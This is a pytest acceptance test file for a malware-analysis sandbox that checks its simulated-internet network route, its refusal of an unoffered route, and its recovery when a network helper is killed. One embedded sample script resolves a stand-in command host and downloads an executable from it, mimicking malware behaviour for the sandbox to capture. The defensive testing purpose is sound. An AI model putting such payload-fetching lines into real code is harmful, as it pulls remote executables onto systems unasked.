"""A sample on a route, through the whole product: what it is given, what is kept of it, and what is left afterwards."""

import os
import signal
from pathlib import Path

import pytest

from tests.acceptance import samples
from tests.acceptance.installation import STATE, Installation

pytestmark = [pytest.mark.acceptance, pytest.mark.timeout(600)]

ASKS = """#!/usr/bin/env python3
import socket, urllib.request
print(socket.gethostbyname("command.example"))
print(urllib.request.urlopen("http://command.example/x.exe", timeout=20).read()[:200])
"""
WAITS = """#!/usr/bin/env python3
import socket, time
print(socket.gethostbyname("command.example"), flush=True)
time.sleep(600)
"""
PCAP_MAGIC = b"\xd4\xc3\xb2\xa1"


@pytest.fixture(name="walled")
def walled_fixture(installation: Installation) -> Installation:
    """The machines of an installation that root made may be put on the route simulated."""
    assert os.geteuid() == 0, "routes other than none need root, and so does this test"
    assert "simulated" in installation.machine()["routes"], f"{STATE}/etc/fleet.toml is older than this route"
    return installation


@pytest.mark.promise("F6", "P22", "E1")
def test_a_sample_on_the_route_simulated_meets_an_internet_that_is_none(walled: Installation, tmp_path: Path) -> None:
    """Names resolve, pages are served, all of it from within; the packets are an artifact of the report."""
    report = walled.analyse(samples.write(tmp_path / "asks.py", ASKS), "--route", "simulated", "--timeout", "60")
    printed = next(one for section in report["sections"] for one in section["blocks"] if one["title"] == "stdout")
    assert printed["text"].startswith("203.0.113.80\n")
    assert "INetSim" in printed["text"]
    (capture,) = [one for one in report["artifacts"] if one["name"] == "capture.pcap"]
    target = tmp_path / "capture.pcap"
    said = walled.malbox("artifacts", "get", capture["result_id"], "--output", target)
    assert said.code == 0, said
    content = target.read_bytes()
    assert content.startswith(PCAP_MAGIC)
    assert b"command\x07example" in content
    assert b"GET /x.exe" in content


@pytest.mark.promise("F6", "P21")
def test_a_route_that_no_machine_offers_is_refused(walled: Installation, tmp_path: Path) -> None:
    """Nobody wrote down a way out, so nobody is promised one."""
    sample = samples.write(tmp_path / "asks.py", ASKS)
    said = walled.malbox("submit", sample, "--route", "internet")
    assert said.code == 4, said
    assert "No machine of profile linux offers the route internet" in said.err


@pytest.mark.promise("P3", "P5")
def test_a_helper_that_is_killed_costs_a_lease_and_no_machine(walled: Installation, tmp_path: Path) -> None:
    """Its networks end with it; the task goes on with another attempt, and the machine comes back by itself."""
    task = walled.submit(samples.write(tmp_path / "waits.py", WAITS), "--route", "simulated", "--timeout", "20")
    walled.wait(task, states=("running",))
    os.kill(walled.pid("network"), signal.SIGKILL)
    assert walled.wait(task) in {"completed", "failed"}
    walled.wait_until_ready()
